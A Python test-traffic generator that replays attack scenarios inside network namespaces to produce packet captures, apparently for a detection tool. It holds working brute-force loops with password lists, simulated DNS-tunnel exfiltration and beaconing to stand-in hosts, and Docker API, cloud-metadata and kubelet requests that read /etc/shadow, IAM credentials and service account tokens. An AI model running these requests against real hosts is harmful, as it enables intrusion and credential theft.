#!/usr/bin/env python3
"""Clients that make the traffic of drydock's test captures (standard library only).

Usage: clients.py SCENARIO [ARGS...]
  ssh-brute HOST N          N short sessions to HOST:22, client banner only
  ftp-brute HOST            4 sessions x 4 USER/PASS attempts to HOST:21
  http-brute HOST PORT      14 GETs with Authorization: Basic to HOST:PORT
  dns-tunnel SERVER N       N queries (A and TXT) for base32 labels under x.tunnel.example
  dns-benign SERVER         ordinary A/AAAA/MX lookups of ~16 names
  beacon HOST N INTERVAL    N HTTP GETs to HOST:80, INTERVAL s apart (+-5 % jitter)
  docker HOST               Docker Engine API abuse on HOST:2375
  metadata HOST             cloud metadata credential theft (HOST is 169.254.169.254)
  kubelet HOST              kubelet API /pods and /run on HOST:10250
  stratum HOST PORT         stratum mining login and one share
  revshell HOST PORT        the victim side of a reverse shell: answers commands with canned output
  tcp-states HOST           refused, normal close, reset mid-stream, UDP (ports 7000-7002, 9999, 9998)
  ipv6 HOST                 TCP and UDP echo to HOST port 7000 (use ::1)
Used by ../net-captures.sh; all peers are addresses inside namespaces it creates.
"""
import base64
import http.client
import json
import random
import socket
import struct
import sys
import time

UA_CURL = "curl/7.88.1"


def tcp(host, port, timeout=3.0):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((host, port))
    return s


def readline(s):
    buf = b""
    while not buf.endswith(b"\n"):
        d = s.recv(1)
        if not d:
            break
        buf += d
    return buf


# ------------------------------------------------------------------ brute force
def ssh_brute(host, n):
    for i in range(int(n)):
        s = tcp(host, 22)
        readline(s)
        s.sendall(b"SSH-2.0-libssh2_1.10.0\r\n")
        try:
            while s.recv(1024):
                pass
        except socket.timeout:
            pass
        s.close()
        time.sleep(0.4)


USERS = ["root", "admin", "ftp", "test"]
PASSWORDS = ["123456", "password", "admin", "root", "toor", "qwerty", "letmein", "changeme",
             "ftp", "anonymous", "12345678", "test", "P@ssw0rd", "welcome", "111111", "abc123"]


def ftp_brute(host):
    k = 0
    for user in USERS:
        s = tcp(host, 21)
        readline(s)
        for _ in range(4):
            s.sendall(b"USER %s\r\n" % user.encode())
            readline(s)
            s.sendall(b"PASS %s\r\n" % PASSWORDS[k % len(PASSWORDS)].encode())
            k += 1
            readline(s)
        s.sendall(b"QUIT\r\n")
        readline(s)
        s.close()
        time.sleep(0.2)


def http_brute(host, port):
    creds = [("admin", p) for p in PASSWORDS[:8]] + [("root", p) for p in PASSWORDS[8:14]]
    for user, pw in creds:
        c = http.client.HTTPConnection(host, int(port), timeout=3)
        tok = base64.b64encode(("%s:%s" % (user, pw)).encode()).decode()
        c.request("GET", "/admin/", headers={"Authorization": "Basic " + tok, "User-Agent": "Mozilla/5.0 (Hydra)",
                                             "Accept": "*/*"})
        r = c.getresponse()
        r.read()
        c.close()
        time.sleep(0.15)


# ------------------------------------------------------------------------- DNS
def dns_query(name, qtype, qid):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    # with an EDNS0 OPT record, as dig and glibc's resolver (edns0 option) send
    opt = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 1) + q + struct.pack(">HH", qtype, 1) + opt


def dns_ask(sock, server, name, qtype, rng):
    qid = rng.randrange(65536)
    sock.sendto(dns_query(name, qtype, qid), (server, 53))
    try:
        sock.recvfrom(2048)
    except socket.timeout:
        pass


def dns_tunnel(server, n):
    rng = random.Random(1337)
    # "exfiltrated" data: a fake file, high-entropy once compressed; here random bytes
    payload = bytes(rng.randrange(256) for _ in range(40 * int(n)))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    s.settimeout(1.0)
    sess = "%04x" % rng.randrange(65536)
    for i in range(int(n)):
        chunk = payload[i * 31:(i + 1) * 31]
        label = base64.b32encode(chunk).decode().rstrip("=").lower()  # 50 chars
        name = "%s.%s%02x.x.tunnel.example" % (label, sess, i & 0xff)
        qtype = 16 if i % 4 == 3 else 1  # every fourth a TXT poll for commands
        dns_ask(s, server, name, qtype, rng)
        time.sleep(0.05)


BENIGN_Q = [("www.example.com", 1), ("www.example.com", 28), ("mail.example.org", 1), ("example.org", 15),
            ("www.example.org", 1), ("deb.debian.org", 1), ("deb.debian.org", 28), ("security.debian.org", 1),
            ("registry-1.docker.io", 1), ("auth.docker.io", 1), ("production.cloudflare.docker.com", 1),
            ("github.com", 1), ("github.com", 28), ("api.github.com", 1), ("pypi.org", 1),
            ("files.pythonhosted.org", 1), ("ntp.ubuntu.com", 1), ("www.wikipedia.org", 1),
            ("www.wikipedia.org", 28), ("time.example.net", 1), ("wpad.example.net", 1)]


def dns_benign(server):
    rng = random.Random(42)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    s.settimeout(1.0)
    for name, qtype in BENIGN_Q:
        dns_ask(s, server, name, qtype, rng)
        time.sleep(0.3 + rng.random() * 0.4)


# ------------------------------------------------------------------------ HTTP
def http_do(host, port, method, path, body=None, headers=None):
    c = http.client.HTTPConnection(host, int(port), timeout=3)
    h = {"User-Agent": UA_CURL, "Accept": "*/*"}
    h.update(headers or {})
    if body is not None and not isinstance(body, bytes):
        body = json.dumps(body).encode()
        h["Content-Type"] = "application/json"
    c.request(method, path, body=body, headers=h)
    r = c.getresponse()
    data = r.read()
    c.close()
    return r.status, data


def beacon(host, n, interval):
    rng = random.Random(7)
    host_id = "c7f3a9e2"
    for i in range(int(n)):
        t0 = time.monotonic()
        http_do(host, 80, "GET", "/api/v1/ping?id=%s&seq=%d" % (host_id, i),
                headers={"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Host": "cdn-update.example.net"})
        if i + 1 < int(n):
            delay = float(interval) * (1 + rng.uniform(-0.05, 0.05))
            time.sleep(max(0.0, delay - (time.monotonic() - t0)))


def docker(host):
    ua = {"User-Agent": "Docker-Client/24.0.7 (linux)"}
    http_do(host, 2375, "HEAD", "/_ping", headers=ua)
    http_do(host, 2375, "GET", "/v1.41/version", headers=ua)
    st, data = http_do(host, 2375, "POST", "/v1.41/containers/create?name=pwn", headers=ua, body={
        "Image": "alpine:3.19", "Cmd": ["/bin/sh", "-c", "sleep 3600"], "Tty": False,
        "HostConfig": {"Binds": ["/:/host"], "Privileged": True, "PidMode": "host", "NetworkMode": "host"}})
    cid = json.loads(data)["Id"]
    http_do(host, 2375, "POST", "/v1.41/containers/%s/start" % cid, headers=ua, body=b"")
    st, data = http_do(host, 2375, "POST", "/v1.41/containers/%s/exec" % cid, headers=ua, body={
        "AttachStdout": True, "AttachStderr": True, "Tty": False,
        "Cmd": ["chroot", "/host", "sh", "-c", "id; cat /etc/shadow | head -1"]})
    eid = json.loads(data)["Id"]
    http_do(host, 2375, "POST", "/v1.41/exec/%s/start" % eid, headers=ua, body={"Detach": False, "Tty": False})


def metadata(host):
    base = "/latest/meta-data/iam/security-credentials/"
    http_do(host, 80, "GET", "/latest/meta-data/")
    st, role = http_do(host, 80, "GET", base)
    http_do(host, 80, "GET", base + role.decode().strip())


def kubelet(host):
    http_do(host, 10250, "GET", "/pods")
    http_do(host, 10250, "GET", "/runningpods/")
    http_do(host, 10250, "POST", "/run/default/web-7f9c/app", body=b"cmd=id",
            headers={"Content-Type": "application/x-www-form-urlencoded"})
    http_do(host, 10250, "POST", "/run/default/web-7f9c/app",
            body=b"cmd=cat+/var/run/secrets/kubernetes.io/serviceaccount/token",
            headers={"Content-Type": "application/x-www-form-urlencoded"})


# ---------------------------------------------------------------- mining, shell
def stratum(host, port):
    s = tcp(host, int(port))

    def send(o):
        s.sendall(json.dumps(o, separators=(",", ":")).encode() + b"\n")

    send({"id": 1, "method": "mining.subscribe", "params": ["xmrig/6.21.0"]})
    readline(s)
    send({"id": 2, "method": "mining.authorize",
          "params": ["48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD.worker1", "x"]})
    for _ in range(3):
        readline(s)
    time.sleep(1.5)
    send({"id": 4, "method": "mining.submit", "params": ["worker1", "4f1a", "08000002", "65a1c0de", "8f3b2c1d"]})
    readline(s)
    time.sleep(0.5)
    s.close()


CANNED = {
    b"id": b"uid=0(root) gid=0(root) groups=0(root)\n",
    b"hostname": b"web-7f9c\n",
    b"uname -a": b"Linux web-7f9c 6.1.0-13-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.55-1 (2023-09-29) x86_64 GNU/Linux\n",
    b"pwd": b"/app\n",
    b"ls -la /": b"total 64\ndrwxr-xr-x   1 root root 4096 Jan  1 00:00 .\ndrwxr-xr-x   1 root root 4096 Jan  1 00:00 ..\n"
                b"drwxr-xr-x   1 root root 4096 Jan  1 00:00 app\ndrwxr-xr-x   2 root root 4096 Jan  1 00:00 bin\n"
                b"drwxr-xr-x   5 root root  340 Jan  1 00:00 dev\ndrwxr-xr-x   1 root root 4096 Jan  1 00:00 etc\n",
    b"cat /etc/os-release": b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n',
    b"ps aux": b"USER PID %CPU %MEM COMMAND\nroot 1 0.0 0.1 nginx: master process\nroot 27 0.0 0.0 /bin/sh -i\n"
               b"root 31 0.0 0.0 ps aux\n",
    b"env": b"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nHOSTNAME=web-7f9c\n"
            b"KUBERNETES_SERVICE_HOST=10.96.0.1\nKUBERNETES_SERVICE_PORT=443\nHOME=/root\n",
    b"cat /proc/1/cgroup": b"0::/kubepods/besteffort/pod5d1f0a4e/4c01db0b339c\n",
    b"ls /var/run/secrets/kubernetes.io/serviceaccount": b"ca.crt\nnamespace\ntoken\n",
    b"df -h": b"Filesystem Size Used Avail Use% Mounted on\noverlay 30G 12G 17G 42% /\n",
    b"ip addr": b"1: lo: <LOOPBACK,UP> mtu 65536\n    inet 127.0.0.1/8 scope host lo\n"
                b"3: eth0@if9: <BROADCAST,UP> mtu 1500\n    inet 10.244.0.7/24 scope global eth0\n",
}


def revshell(host, port):
    s = tcp(host, int(port), timeout=120)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(b"/bin/sh: 0: can't access tty; job control turned off\n# ")
    buf = b""
    while True:
        d = s.recv(1024)
        if not d:
            break
        buf += d
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            cmd = line.strip()
            if cmd == b"exit":
                s.close()
                return
            out = CANNED.get(cmd, b"/bin/sh: 1: %s: not found\n" % cmd)
            # output leaves in several small writes, like a pty-less shell
            for k in range(0, len(out), 96):
                s.sendall(out[k:k + 96])
                time.sleep(0.02)
            s.sendall(b"# ")
    s.close()


# ------------------------------------------------------------------ TCP states
def tcp_states(host):
    # 1. connection refused: SYN answered by RST
    try:
        tcp(host, 7002).close()
    except ConnectionRefusedError:
        pass
    time.sleep(0.3)
    # 2. normal exchange and close, FIN both ways
    s = tcp(host, 7000)
    for line in (b"hello\n", b"how are you\n"):
        s.sendall(line)
        readline(s)
    s.shutdown(socket.SHUT_WR)
    while s.recv(1024):
        pass
    s.close()
    time.sleep(0.3)
    # 3. server resets mid-stream
    s = tcp(host, 7001)
    s.sendall(b"GET /big HTTP/1.0\r\n\r\n")
    try:
        while s.recv(1024):
            pass
    except ConnectionResetError:
        pass
    s.close()
    time.sleep(0.3)
    # 4. UDP: an echo exchange, then a datagram to a closed port (ICMP port unreachable)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(1.0)
    for i in range(3):
        u.sendto(b"udp ping %d" % i, (host, 7000))
        u.recvfrom(2048)
    u.sendto(b"anyone there?", (host, 9998))
    time.sleep(0.3)
    # 5. client-side abort: data then RST from the client
    s = tcp(host, 7000)
    s.sendall(b"bye\n")
    readline(s)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()


def ipv6(host):
    s = tcp(host, 7000)
    for line in (b"hello over v6\n", b"second line\n"):
        s.sendall(line)
        readline(s)
    s.shutdown(socket.SHUT_WR)
    while s.recv(1024):
        pass
    s.close()
    u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    u.settimeout(1.0)
    for i in range(3):
        u.sendto(b"udp6 ping %d" % i, (host, 7000))
        u.recvfrom(2048)


SCEN = {"ssh-brute": ssh_brute, "ftp-brute": ftp_brute, "http-brute": http_brute, "dns-tunnel": dns_tunnel,
        "dns-benign": dns_benign, "beacon": beacon, "docker": docker, "metadata": metadata, "kubelet": kubelet,
        "stratum": stratum, "revshell": revshell, "tcp-states": tcp_states, "ipv6": ipv6}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in SCEN:
        sys.exit(__doc__)
    SCEN[sys.argv[1]](*sys.argv[2:])
